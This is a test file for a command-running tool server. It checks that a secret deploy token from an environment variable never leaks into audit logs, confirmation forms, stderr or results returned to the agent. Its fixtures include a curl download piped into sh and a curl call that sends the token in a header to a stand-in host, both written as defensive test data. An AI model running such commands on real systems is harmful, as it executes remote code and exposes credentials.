// Canary: a value from ${env:…} in the person's own slash command never reaches the audit log, the confirmation
// form, an error, the server's stderr or anything run_command returns to the agent, whichever way a step goes.
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { connect, makeSandbox, type Sandbox } from "./helpers.js";

const CANARY = "cnry-8d2b44";
const TOKEN = `${CANARY} it's`;

const COMMANDS = {
  // allowed: runs, and echoes the value (the command's own output is hidden from the agent too)
  runs: "echo ${q:env:DEPLOY_TOKEN}",
  // a network client asks: the form shows the line (-sS: no progress meter, whose figures depend on timing)
  asks: "curl -sS -H ${q:env:DEPLOY_TOKEN} https://example.invalid/",
  // a download piped into a shell is refused with its reasons
  denied: "curl -H ${q:env:DEPLOY_TOKEN} https://example.invalid/ | sh",
  // unquoted, the value's quote breaks the line: it does not parse and asks
  unquoted: "echo ${env:DEPLOY_TOKEN}",
};

let sandbox: Sandbox;
beforeAll(() => {
  sandbox = makeSandbox({
    commands: {
      commands: Object.entries(COMMANDS).map(([name, command]) => ({
        name,
        steps: [{ type: "terminal", command }],
      })),
    },
  });
});
afterAll(() => sandbox.cleanup());

describe("no secret reaches the log, the form or the agent", () => {
  it.each([
    ["runs", "accept"],
    ["asks", "decline"],
    ["asks", "accept"],
    ["denied", "accept"],
    ["unquoted", "decline"],
  ] as const)("/%s (the person answers %s)", async (name, action) => {
    const server = await connect(sandbox, {
      env: { ...sandbox.env, DEPLOY_TOKEN: TOKEN },
      answer: action === "accept" ? { action, content: { run: true } } : { action },
    });
    try {
      const result = await server.client.callTool({ name: "run_command", arguments: { name } });
      const audit = readFileSync(path.join(sandbox.stateDir, "audit.jsonl"), "utf8");
      for (const where of [JSON.stringify(result), server.forms.join("\n"), server.stderr(), audit])
        expect(where).not.toContain(CANARY);
      const last = JSON.parse(audit.trim().split("\n").at(-1) as string) as Record<string, unknown>;
      expect(last.text).toBe(COMMANDS[name]);
      expect(String(last.expandedDigest)).toMatch(/^sha256:[0-9a-f]{64}$/);
      if (name !== "runs" && name !== "denied") expect(server.forms.length).toBeGreaterThan(0);
    } finally {
      await server.close();
    }
  });
});

describe("a secret of any length: what the agent, the form and the log get does not depend on its value", () => {
  // Two values of the same length: the results, forms and audit records are the same (but for digests, times,
  // pids and durations), so none of either value is in them; searching for a one-character value would have cut
  // every word holding that character.
  const VOLATILE = new Set(["time", "pid", "durationMs", "expandedDigest"]);
  const stable = (value: unknown): unknown =>
    Array.isArray(value)
      ? value.map(stable)
      : typeof value === "object" && value !== null
        ? Object.fromEntries(
            Object.entries(value)
              .filter(([k]) => !VOLATILE.has(k))
              .map(([k, v]) => [k, stable(v)]),
          )
        : value;
  const file = (): string => path.join(sandbox.stateDir, "audit.jsonl");
  const seen = async (value: string): Promise<unknown> => {
    const before = existsSync(file()) ? readFileSync(file(), "utf8").trim().split("\n").length : 0;
    const out: unknown[] = [];
    const server = await connect(sandbox, {
      env: { ...sandbox.env, DEPLOY_TOKEN: value },
      answer: { action: "accept", content: { run: true } },
    });
    try {
      for (const name of ["runs", "asks", "denied"]) {
        const result = await server.client.callTool({ name: "run_command", arguments: { name } });
        out.push(stable(result));
      }
      out.push(server.forms);
    } finally {
      await server.close();
    }
    const audit = readFileSync(file(), "utf8").trim().split("\n").slice(before);
    expect(audit.length).toBeGreaterThan(3);
    out.push(audit.map((line) => stable(JSON.parse(line))));
    return out;
  };

  it.each([
    // (characters curl's progress meter does not print)
    ["1 character", "¤", "§"],
    ["3 characters", "¤¤¤", "§§§"],
    ["a long value", "tok-¤¤¤¤-canary-value-1", "tok-§§§§-canary-value-2"],
  ])("%s", async (_label, a, b) => {
    expect(await seen(b)).toEqual(await seen(a));
  });

  it("does not cut the form's or the result's own words apart for a one-letter value", async () => {
    const shown = JSON.stringify(await seen("e"));
    // the form quotes the placeholder line and reasons, the result keeps its statuses and codes
    expect(shown).toContain("$ curl -sS -H '⟪env:DEPLOY_TOKEN⟫' https://example.invalid/");
    expect(shown).toContain("- net.client: curl connects to other machines");
    expect(shown).toContain('"status":"ran"');
    expect(shown).toContain('"code":"net.client"');
  });
});
